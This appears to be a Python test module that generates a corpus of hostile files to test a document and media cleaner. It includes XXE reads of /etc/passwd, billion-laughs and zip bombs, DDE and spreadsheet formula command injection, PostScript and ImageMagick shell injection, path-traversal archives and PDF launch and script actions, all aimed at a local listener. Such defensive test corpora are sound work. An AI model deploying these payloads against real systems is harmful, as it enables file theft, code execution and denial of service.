"""A corpus of hostile files, each made here: what scripts, bombs, tricks and broken codecs look like.

All of them name one address where a listener waits (`TRAP`), and none is dangerous by itself: the
largest unfolds to a few gigabytes.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import partial

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import Image

from tests.cleaning.office_samples import _OOXML, _package, archive, links, types
from tests.cleaning.samples import Canaries, image
from tests.scenarios.attachments import jpeg as plain_jpeg
from tests.scenarios.attachments import opus as plain_opus
from tests.scenarios.attachments import pdf as plain_pdf

TRAP = "127.0.0.1:8099"
URL = f"http://{TRAP}/x"
MIB = 1 << 20


def svg(body: str, head: str = "") -> bytes:
    return f'<?xml version="1.0"?>{head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{body}</svg>'.encode()


TEXTS: dict[str, bytes] = {
    "svg with a script": svg(f'<script>fetch("{URL}")</script>'),
    "svg with a remote picture": svg(f'<image xlink:href="{URL}.png"/>'),
    "svg with an outer entity": svg("<text>&e;</text>", '<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
    "svg of a billion laughs": svg("&j;", "<!DOCTYPE svg [" + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True)) + '<!ENTITY a "ha">]>'),
    "html with a script": f'<script src="{URL}.js"></script><img src="{URL}.png">'.encode(),
    "html that moves on": f'<meta http-equiv="refresh" content="0;url={URL}">'.encode(),
    "html in utf-16": f'<img src="{URL}">'.encode("utf-16"),
    "a mail with a page": f"MIME-Version: 1.0\nContent-Type: text/html\n\n<img src={URL}>".encode(),
    "imagemagick's mvg": f"push graphic-context\nviewbox 0 0 640 480\nfill 'url({URL}\"|touch /tmp/owned\")'\npop graphic-context".encode(),
    "imagemagick's msl": f'<?xml version="1.0"?><image><read filename="{URL}"/><write filename="/tmp/owned"/></image>'.encode(),
    "postscript that runs": b"%!PS\n(%pipe%touch /tmp/owned) (w) file\n",
    "a playlist": f"#EXTM3U\n#EXTINF:1,\n{URL}.ts\n#EXT-X-ENDLIST".encode(),
    "a playlist that reads files": b"#EXTM3U\n#EXTINF:1,\nconcat:file:///etc/passwd|file:///etc/hostname\n#EXT-X-ENDLIST",
    "a list for ffmpeg": b"ffconcat version 1.0\nfile /etc/passwd\n",
    "a manifest of a film": f'<MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><BaseURL>{URL}</BaseURL></MPD>'.encode(),
    "a session of a stream": b"v=0\no=- 0 0 IN IP4 127.0.0.1\nm=video 8099 RTP/AVP 96\n",
    "formulas": f"=cmd|' /C calc'!A0,+1,-1,@SUM(1),=WEBSERVICE(\"{URL}\")\n".encode(),
    "halves of characters": b"\xed\xa0\x80\xed\xbf\xbf" * 1000,
    "a hundred thousand combining marks": ("e" + "\u0301" * 100_000).encode(),
    "turned text": "invented\u202egpj.exe\U000e0041\u2066".encode(),
    "json a hundred thousand deep": b"[" * 100_000,
    "zeros": bytes(MIB),
    "nothing": b"",
    "one byte": b"\xff",
    "a program": b"\x7fELF\x02\x01\x01" + bytes(100),
    "a shell script": b"#!/bin/sh\ntouch /tmp/owned\n",
    "a desktop entry": b"[Desktop Entry]\nType=Application\nExec=touch /tmp/owned\n",
    "rich text with an object": b"{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105000002000000}}}",
    "an old office file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000),
}
LARGE: dict[str, Callable[[], bytes]] = {
    "one line of 100 MB": lambda: b"a" * (100 * MIB),
    "a gzip bomb": lambda: zlib.compress(bytes(100 * MIB), 9, 31),
}


# --- pictures


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, *more: bytes, pixels: bytes | None = None) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    body = zlib.compress(bytes((width + 1) * height) if pixels is None else pixels, 9)
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def zeros_deflated(size: int) -> bytes:
    packer = zlib.compressobj(9)
    parts = [packer.compress(bytes(MIB)) for _ in range(size // MIB)]
    return b"".join([*parts, packer.flush()])


def apng(frames: int) -> bytes:
    shown = chunk(b"acTL", struct.pack(">II", frames, 0))
    control = b"".join(chunk(b"fcTL", struct.pack(">IIIIIHHBB", n, 1, 1, 0, 0, 1, 10, 0, 0)) for n in range(frames))
    return png(1, 1, shown + control)


def encoded(kind: str, size: tuple[int, int] = (64, 48), **options) -> bytes:
    out = io.BytesIO()
    image(size).save(out, kind, **options)
    return out.getvalue()


def exif_loop() -> bytes:
    """A directory of EXIF that names itself as the next one, and its own start as a sub-directory."""
    tiff = b"MM\0*" + struct.pack(">I", 8) + struct.pack(">H", 2)
    tiff += struct.pack(">HHII", 0x8769, 4, 1, 8) + struct.pack(">HHII", 0x8825, 4, 1, 8) + struct.pack(">I", 8)
    return encoded("JPEG", exif=b"Exif\0\0" + tiff)


def jpeg_of(width: int, height: int) -> bytes:
    """A JPEG whose header lies about its size."""
    data = bytearray(plain_jpeg(2))
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def gif(frames: int) -> bytes:
    frame = b"\x21\xf9\x04\0\1\0\0\0" + b"\x2c\0\0\0\0\1\0\1\0\0" + b"\x02\x02D\x01\0"
    return b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff" + frame * frames + b";"


def progressive(scans: int) -> bytes:
    """A progressive JPEG whose last scan comes over and over."""
    data = encoded("JPEG", (2000, 2000), progressive=True)
    last = data.rindex(b"\xff\xda")
    return data[:last] + data[last:-2] * scans + b"\xff\xd9"


PICTURES: dict[str, Callable[[], bytes]] = {
    "png of 3.6 thousand million pixels": lambda: png(60_000, 60_000, pixels=bytes(100)),
    "png that unfolds to a gigabyte": lambda: b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 32_000, 32_000, 8, 0, 0, 0, 0)) + chunk(b"IDAT", zeros_deflated(1024 * MIB)) + chunk(b"IEND", b""),
    "png of a size beyond numbers": lambda: png(2**31 - 1, 2**31 - 1, pixels=b"\0"),
    "png of no size": lambda: png(0, 0, pixels=b""),
    "png with a text bomb": lambda: png(8, 8, chunk(b"zTXt", b"Comment\0\0" + zeros_deflated(512 * MIB))),
    "png with a profile bomb": lambda: png(8, 8, chunk(b"iCCP", b"p\0\0" + zeros_deflated(512 * MIB))),
    "png of a hundred thousand frames": lambda: apng(100_000),
    "png with a wrong checksum": lambda: encoded("PNG")[:40] + b"xx" + encoded("PNG")[42:],
    "png cut short": lambda: encoded("PNG", (800, 600))[:300],
    "jpeg of the largest size": lambda: jpeg_of(65_500, 65_500),
    "jpeg cut short": lambda: encoded("JPEG", (800, 600))[:900],
    "jpeg with a loop in its exif": exif_loop,
    "jpeg of a thousand scans": lambda: progressive(1000),
    "jpeg that is a page": lambda: plain_jpeg(2) + f"<script>fetch('{URL}')</script>".encode(),
    "jpeg that is a zip file": lambda: plain_jpeg(2) + archive({"../../owned": b"x"}),
    "jpeg of markers only": lambda: b"\xff\xd8" + b"\xff\xe1\0\2" * 200_000,
    "webp cut short": lambda: encoded("WEBP", (800, 600))[:60],
    "webp of the largest size": lambda: b"RIFF\x16\0\0\0WEBPVP8X\x0a\0\0\0\x10\0\0\0" + b"\xff\xff\xff" * 2,
    "webp of many frames": lambda: encoded("WEBP", (200, 200), save_all=True, append_images=[Image.new("RGB", (200, 200), (n % 256, 0, 0)) for n in range(300)]),
    "gif of a hundred thousand frames": lambda: gif(100_000),
    "tiff": lambda: encoded("TIFF"),
    "bmp of a size beyond numbers": lambda: b"BM" + struct.pack("<IIIIiiHHIIiiII", 54, 0, 54, 40, 2**31 - 1, 2**31 - 1, 1, 24, 0, 0, 0, 0, 0, 0),
    "heic that is none": lambda: b"\0\0\0\x18ftypheic" + bytes(100),
}  # fmt: skip


# --- documents


def document(change: Callable[[Pdf], object], **options) -> bytes:
    made = pikepdf.open(io.BytesIO(plain_pdf("Invented")))
    change(made)
    out = io.BytesIO()
    made.save(out, **options)
    return out.getvalue()


def opens(**action) -> Callable[[], bytes]:
    def change(made: Pdf) -> None:
        made.Root.OpenAction = Dictionary(**action)
        made.pages[0].AA = Dictionary(O=Dictionary(**action))

    return lambda: document(change)


def contents(drawn: bytes, *, coding: Name | None = None, **objects) -> Callable[[], bytes]:
    def change(made: Pdf) -> None:
        made.pages[0].Contents = made.make_stream(drawn, **({"Filter": coding} if coding else {}))
        made.pages[0].Resources.XObject = Dictionary(**{name: made.make_stream(data, **keys) for name, (data, keys) in objects.items()})

    return lambda: document(change)


def picture(data: bytes, side: int, coding: Name, **more) -> tuple[bytes, dict]:
    keys = {"Type": Name.XObject, "Subtype": Name.Image, "Width": side, "Height": side, "ColorSpace": Name.DeviceGray, "BitsPerComponent": 8, "Filter": coding}
    return data, {**keys, **more}


def _sized(box: list[int]) -> Callable[[Pdf], None]:
    def change(made: Pdf) -> None:
        made.pages[0].MediaBox = Array(box)

    return change


def _many(made: Pdf) -> None:
    for _ in range(700):
        made.pages.append(made.pages[0])


def _loop(made: Pdf) -> None:
    made.Root.Pages.Kids.append(made.Root.Pages)


def _form_loop(made: Pdf) -> None:
    form = made.make_stream(b"/F Do /F Do", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    form.Resources = Dictionary(XObject=Dictionary(F=form))
    made.pages[0].Contents, made.pages[0].Resources.XObject = made.make_stream(b"/F Do"), Dictionary(F=form)


def _xfa(made: Pdf) -> None:
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=made.make_stream(f'<xdp><submit target="{URL}"/></xdp>'.encode()))


def _embedded(made: Pdf) -> None:
    made.attachments["../../../owned"] = b"x" * 1000


DO = b"q 500 0 0 500 0 0 cm /A Do Q"
DOCUMENTS: dict[str, Callable[[], bytes]] = {
    "pdf with a script": opens(S=Name.JavaScript, JS=String(f"app.launchURL('{URL}')")),
    "pdf that starts a program": opens(S=Name.Launch, F=String("/bin/sh")),
    "pdf that opens an address": opens(S=Name.URI, URI=String(URL)),
    "pdf that opens another": opens(S=Name.GoToR, F=Dictionary(FS=Name.URL, F=String(URL)), D=Array([0, Name.Fit])),
    "pdf that sends a form": opens(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String(URL))),
    "pdf with xfa": lambda: document(_xfa),
    "pdf with a file and a path in its name": lambda: document(_embedded),
    "pdf with an outer picture": contents(DO, A=picture(b"", 8, Name.DCTDecode, F=Dictionary(FS=Name.URL, F=String(URL)))),
    "pdf with a picture of a gigabyte": lambda: contents(DO, A=picture(zeros_deflated(1024 * MIB), 32_000, Name.FlateDecode))(),  # noqa: PLW0108 - made only when asked for
    "pdf with a picture that lies": contents(DO, A=picture(b"\0", 60_000, Name.FlateDecode)),
    "pdf with a page of half a gigabyte": lambda: contents(zeros_deflated(512 * MIB), coding=Name.FlateDecode)(),  # noqa: PLW0108 - made only when asked for
    "pdf with a broken jbig2": contents(DO, A=picture(b"\0\0\0\0\x30\0\1" + b"\xff" * 400, 64, Name.JBIG2Decode, BitsPerComponent=1)),
    "pdf with a broken jpeg 2000": contents(DO, A=picture(b"\0\0\0\x0cjP  \r\n\x87\n" + b"\xff" * 400, 64, Name.JPXDecode)),
    "pdf of a million strokes": contents(b"0 0 m " + b"9 9 l 1 2 3 4 5 6 c " * 300_000 + b"S"),
    "pdf of nested arrays": lambda: plain_pdf("Invented").replace(b"/Kids[3 0 R]", b"/X" + b"[" * 50_000 + b"/Kids[3 0 R]"),
    "pdf of saved states": contents(b"q " * 1_000_000),
    "pdf in a loop of pages": lambda: document(_loop),
    "pdf in a loop of forms": lambda: document(_form_loop),
    "pdf with its table in a loop": lambda: plain_pdf("Invented").replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev 300"),
    "pdf of seven hundred pages": lambda: document(_many),
    "pdf of no page": lambda: document(lambda made: made.pages.__delitem__(0)),
    "pdf of a page as large as a town": lambda: document(_sized([0, 0, 10**7, 10**7])),
    "pdf of a page without a size": lambda: document(_sized([0, 0, 0, 0])),
    "pdf with a thin page": lambda: document(_sized([0, 0, 10**6, 1])),
    "pdf cut short": lambda: plain_pdf("Invented")[:200],
    "pdf under a password": lambda: document(lambda made: None, encryption=pikepdf.Encryption(user="x", owner="x")),
    "pdf that is a zip file": lambda: plain_pdf("Invented") + archive({"word/document.xml": "<a/>"}),
    "pdf of random bytes": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 400,
}  # fmt: skip


# --- zip files and office


def zip_of(*members: tuple[str, bytes], change: Callable[[bytearray], object] = lambda data: None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in members:
            target.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    data = bytearray(out.getvalue())
    change(data)
    return bytes(data)


def lying_size(data: bytearray) -> None:
    at = data.rindex(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", 10)


def locked(data: bytearray) -> None:
    for mark, at in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        data[data.index(mark) + at] |= 1


def word(body: str, *rels: tuple[str, str], head: str = "", parts: dict[str, bytes] | None = None) -> Callable[[], bytes]:
    kind = f"{_OOXML}.wordprocessingml.document.main+xml"
    names = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    mode = ' TargetMode="External"'
    return lambda: _package(Canaries().word, "word/document.xml", {"word__document": kind}, {
        "word/document.xml": f"{head}<w:document {names}><w:body><w:p><w:r><w:t>Invented</w:t></w:r></w:p>{body}</w:body></w:document>",
        "word/_rels/document.xml.rels": links(*rels, mode=mode), **(parts or {}),
    })  # fmt: skip


def field(code: str) -> str:
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def open_text(body: str) -> Callable[[], bytes]:
    names = " ".join(f'xmlns:{n}="urn:oasis:names:tc:opendocument:xmlns:{n}:1.0"' for n in "office text draw script".split()) + ' xmlns:xlink="http://www.w3.org/1999/xlink"'
    kind = "application/vnd.oasis.opendocument.text"
    return lambda: archive({
        "mimetype": kind,
        "content.xml": f'<office:document-content {names} office:version="1.3"><office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:x.py?language=Python"/></office:event-listeners></office:scripts><office:body><office:text><text:p>Invented</text:p>{body}</office:text></office:body></office:document-content>',
        "META-INF/manifest.xml": f'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="{kind}"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>',
    })  # fmt: skip


def sheet_of(rows: str) -> Callable[[], bytes]:
    kind, names = f"{_OOXML}.spreadsheetml", 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    return lambda: _package(Canaries().word, "xl/workbook.xml", {"xl__workbook": f"{kind}.sheet.main+xml", "xl__worksheets__sheet1": f"{kind}.worksheet+xml"}, {
        "xl/workbook.xml": f'<workbook {names}><sheets><sheet name="One" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": links(("worksheet", "worksheets/sheet1.xml")),
        "xl/worksheets/sheet1.xml": f"<worksheet {names}><sheetData>{rows}</sheetData></worksheet>",
    })  # fmt: skip


LAUGHS = '<!DOCTYPE a [<!ENTITY a "haha">' + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)) + "]>"
OFFICE: dict[str, Callable[[], bytes]] = {
    "zip bomb": lambda: zip_of(*((f"{n}.xml", bytes(64 * MIB)) for n in range(16)), ("word/document.xml", b"<a/>")),
    "zip bomb in one part": lambda: zip_of(("word/document.xml", bytes(300 * MIB))),
    "zip that lies about its size": lambda: zip_of(("word/document.xml", bytes(20 * MIB)), change=lying_size),
    "zip of a hundred thousand parts": lambda: zip_of(*((f"{n}", b"") for n in range(60_000)), ("content.xml", b"<a/>")),
    "zip with paths that lead out": lambda: zip_of(("../../../tmp/owned", b"x"), ("/etc/owned", b"x"), ("word/document.xml", b"<a/>")),
    "zip with turned names": lambda: zip_of(("word/\u202egpj.exe", b"x"), ("word/document.xml", b"<a/>")),
    "zip under a password": lambda: zip_of(("word/document.xml", b"<a/>"), change=locked),
    "zip cut short": lambda: zip_of(("word/document.xml", b"<a/>" * 100))[:60],
    "zip in a zip": lambda: zip_of(("a.zip", zip_of(("word/document.xml", bytes(MIB))))),
    "zip without a directory": lambda: b"PK\x03\x04" + bytes(100),
    "docx with an outer template": word("", ("attachedTemplate", f"{URL}.dotm")),
    "docx with an outer picture": word('<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" r:id="r1"/></w:pict></w:r></w:p>', ("image", f"{URL}.png")),
    "docx with a field that fetches": word(field(f'INCLUDEPICTURE "{URL}.png" \\d') + field('INCLUDETEXT "file:///etc/passwd"')),
    "docx with a field that runs": word(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')),
    "docx with an outer entity": word("&e;", head='<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
    "docx of a billion laughs": word("<w:p><w:r><w:t>&i;</w:t></w:r></w:p>", head=LAUGHS),
    "docx with a page inside": word('<w:altChunk r:id="r1"/>', ("aFChunk", f"{URL}.html")),
    "docx with an object and a macro": word("", ("oleObject", "embeddings/o.bin"), parts={"word/embeddings/o.bin": b"\xd0\xcf\x11\xe0" + bytes(600), "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(600)}),
    "docx of deep tables": word("<w:tbl><w:tr><w:tc>" * 200 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 200),
    "odt with an outer picture": open_text(f'<text:p><draw:frame><draw:image xlink:href="{URL}.png"/></draw:frame></text:p>'),
    "odt that reads a file": open_text('<text:section text:name="s"><text:section-source xlink:href="file:///etc/passwd"/><text:p/></text:section>'),
    "xlsx with formulas that fetch": sheet_of(f'<row r="1"><c r="A1"><f>WEBSERVICE("{URL}")</f></c><c r="B1"><f>HYPERLINK("{URL}")</f></c><c r="C1"><f>cmd|\' /C calc\'!A0</f></c></row>'),
    "xlsx as large as can be": sheet_of('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
    "docx that has only its list": lambda: archive({"[Content_Types].xml": types(), "word/document.xml": b""}),
}  # fmt: skip


# --- sound and film


def atom(kind: bytes, *bodies: bytes) -> bytes:
    body = b"".join(bodies)
    return struct.pack(">I", len(body) + 8) + kind + body


def mov(*atoms: bytes) -> bytes:
    return atom(b"ftyp", b"isom\0\0\2\0isomiso2") + b"".join(atoms)


def outer_film() -> bytes:
    """A film whose data lie at an address (a data reference by URL)."""
    reference = atom(b"dref", bytes(4), struct.pack(">I", 1), atom(b"url ", bytes(4), URL.encode() + b"\0"))
    entry = atom(b"mp4v", bytes(6), b"\0\1", bytes(16), struct.pack(">HH", 64, 48), bytes(50))
    table = atom(b"stbl", atom(b"stsd", bytes(4), struct.pack(">I", 1), entry), atom(b"stts", bytes(4), struct.pack(">III", 1, 1, 25)),
                 atom(b"stsc", bytes(4), struct.pack(">IIII", 1, 1, 1, 1)), atom(b"stsz", bytes(4), struct.pack(">II", 99, 1)), atom(b"stco", bytes(4), struct.pack(">II", 1, 40)))  # fmt: skip
    media = atom(b"mdia", atom(b"mdhd", bytes(12), struct.pack(">II", 25, 25), bytes(4)), atom(b"hdlr", bytes(8), b"vide", bytes(13)), atom(b"minf", atom(b"vmhd", bytes(12)), atom(b"dinf", reference), table))
    track = atom(b"trak", atom(b"tkhd", b"\0\0\0\7", bytes(8), struct.pack(">I", 1), bytes(68)), media)
    return mov(atom(b"moov", atom(b"mvhd", bytes(12), struct.pack(">II", 25, 25), bytes(80)), track))


def wav(length: int, data: bytes = b"", channels: int = 1, rate: int = 8000) -> bytes:
    head = struct.pack("<4sIHHIIHH", b"fmt ", 16, 1, channels, rate, rate, 2, 16)
    return b"RIFF" + struct.pack("<I", length) + b"WAVE" + head + b"data" + struct.pack("<I", length) + data


def avi_with_playlist() -> bytes:
    """A playlist as subtitles of an AVI: how ffmpeg was once made to read files."""
    return b"RIFF\0\1\0\0AVI LIST\x14\0\0\0hdrlavih" + bytes(40) + b"GAB2\0\2\0" + TEXTS["a playlist"]


EBML = b"\x1aE\xdf\xa3"
SOUNDS: dict[str, Callable[[], bytes]] = {
    "film that lies elsewhere": outer_film,
    "film without an index": lambda: mov(atom(b"mdat", bytes(4000))),
    "film cut short": lambda: outer_film()[:100],
    "film of boxes in boxes": lambda: mov(_nested(4000)),
    "film whose box is larger than all": lambda: mov(struct.pack(">I4sQ", 1, b"moov", 2**63 - 1)),
    "film of zeros": lambda: b"\0\0\0\x14ftypisom" + bytes(100_000),
    "matroska of nothing": lambda: EBML + b"\x01\xff\xff\xff\xff\xff\xff\xff",
    "matroska of random bytes": lambda: EBML + bytes(range(256)) * 100,
    "avi with a playlist": avi_with_playlist,
    "wav that lies about its length": lambda: wav(2**32 - 1, b"\1\0" * 4000),
    "wav of 65535 channels": lambda: wav(4000, bytes(4000), channels=65_535),
    "wav of a rate beyond hearing": lambda: wav(4000, bytes(4000), rate=2**32 - 1),
    "wav of no rate": lambda: wav(4000, bytes(4000), rate=0),
    "mp3 of random bytes": lambda: b"ID3\4\0\0\0\0\0\0" + b"\xff\xfb\x90" + bytes(range(256)) * 200,
    "mp3 with a tag beyond its end": lambda: b"ID3\4\0\0\x7f\x7f\x7f\x7f",
    "flac of random bytes": lambda: b"fLaC" + bytes(range(256)) * 100,
    "amr of one frame over and over": lambda: b"#!AMR\n" + (b"\x3c" + bytes(31)) * 200_000,
    "opus cut short": lambda: plain_opus(3)[:150],
    "opus with a wrong checksum": lambda: plain_opus(3).replace(b"\xf8\xff\xfe", b"\xf8\xff\xfd"),
    "ogg of pages without end": lambda: b"OggS\0\2" + bytes(8) + (b"OggS\0\0" + bytes(21)) * 50_000,
}  # fmt: skip


def _nested(depth: int) -> bytes:
    body = b""
    for _ in range(depth):
        body = atom(b"moov", body)
    return body


CORPUS: dict[str, Callable[[], bytes]] = {**{name: partial(bytes, data) for name, data in TEXTS.items()}, **LARGE, **PICTURES, **DOCUMENTS, **OFFICE, **SOUNDS}

